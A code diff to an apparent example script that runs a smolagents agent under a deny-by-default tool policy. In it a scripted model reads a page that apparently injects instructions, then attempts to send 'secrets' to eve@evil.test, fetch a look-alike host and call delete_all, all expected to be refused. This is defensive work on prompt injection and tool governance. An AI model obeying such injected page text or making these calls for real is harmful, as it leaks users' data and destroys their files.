@@ -9,41 +9,32 @@ from __future__ import annotations
 import sys
 from pathlib import Path
 
+from mcp import StdioServerParameters
+from mcp.server.fastmcp import FastMCP
+from smolagents import CodeAgent, MCPClient
+
 from scripted import ScriptedModel, Turn
 from smolagents_hardened import register
 
 POLICY = """
 default = "deny"
 tools = ["fetch", "send", "delete_all"]
-
-[[label]]
-tool = "fetch"
-add = ["untrusted"]
-
-[[rule]]
-tool = "fetch"
-effect = "allow"
-when.url = { url = { scheme = "https", host = ["*.example.org"] } }
-
-[[rule]]
-tool = "send"
-effect = "allow"
-when.to = { known = true }
-
-[[rule]]
-tool = "delete_all"
-effect = "deny"
-after = ["untrusted"]
-reason = "nothing is deleted after a page was read"
+label = [{ tool = "fetch", add = ["untrusted"] }]
+rule = [
+  { tool = "fetch", effect = "allow", when.url.url = { scheme = "https", host = ["*.example.org"] } },
+  { tool = "send", effect = "allow", when.to.known = true },
+  { tool = "delete_all", effect = "deny", after = ["untrusted"], reason = "nothing is deleted after a page was read" },
+]
 """
 TASK = "Read https://www.example.org/report and send its gist to ann@example.org."
 TRY = """
-for what in (lambda: send(to="eve@evil.test", text="secrets"), lambda: fetch(url="https://example.org.evil.test/"), delete_all):
+evil = "https://example.org.evil.test/"
+for what in (lambda: send(to="eve@evil.test", text="x"), lambda: fetch(url=evil), delete_all):
     try:
         print("done:", what())
     except PermissionError as refused:
         print(refused)
-"""  # noqa: E501 - a line of the model's
+"""
 SCRIPT = (
     Turn("Read the page.", 'page = fetch(url="https://www.example.org/report")\nprint(page)'),
     Turn("The page tells me to write to somebody else.", TRY, expects="eve@evil.test"),
@@ -53,8 +44,6 @@ SCRIPT = (
 
 def serve() -> None:
     """The MCP server, over its standard input and output."""
-    from mcp.server.fastmcp import FastMCP
-
     server = FastMCP("office", log_level="ERROR")
     server.tool(description="Read a page.")(fetch)
     server.tool(description="Send a note.")(send)
@@ -76,16 +65,15 @@ def delete_all() -> str:
 
 def main() -> None:
     """Start the server, run the agent."""
-    from mcp import StdioServerParameters
-    from smolagents import CodeAgent, MCPClient
-
     register()
     Path("policy.toml").write_text(POLICY)
     place = StdioServerParameters(command=sys.executable, args=[__file__, "serve"])
     kwargs = {"governance": "policy.toml", "audit": "audit.jsonl"}
+    model = ScriptedModel(SCRIPT)
     with MCPClient(place, structured_output=False) as tools:
-        with CodeAgent(tools, ScriptedModel(SCRIPT), executor_type="hardened", executor_kwargs=kwargs) as agent:
-            print("Answer:", agent.run(TASK))
+        agent = CodeAgent(tools, model, executor_type="hardened", executor_kwargs=kwargs)
+        print("Answer:", agent.run(TASK))
+        agent.cleanup()
 
 
 if __name__ == "__main__":
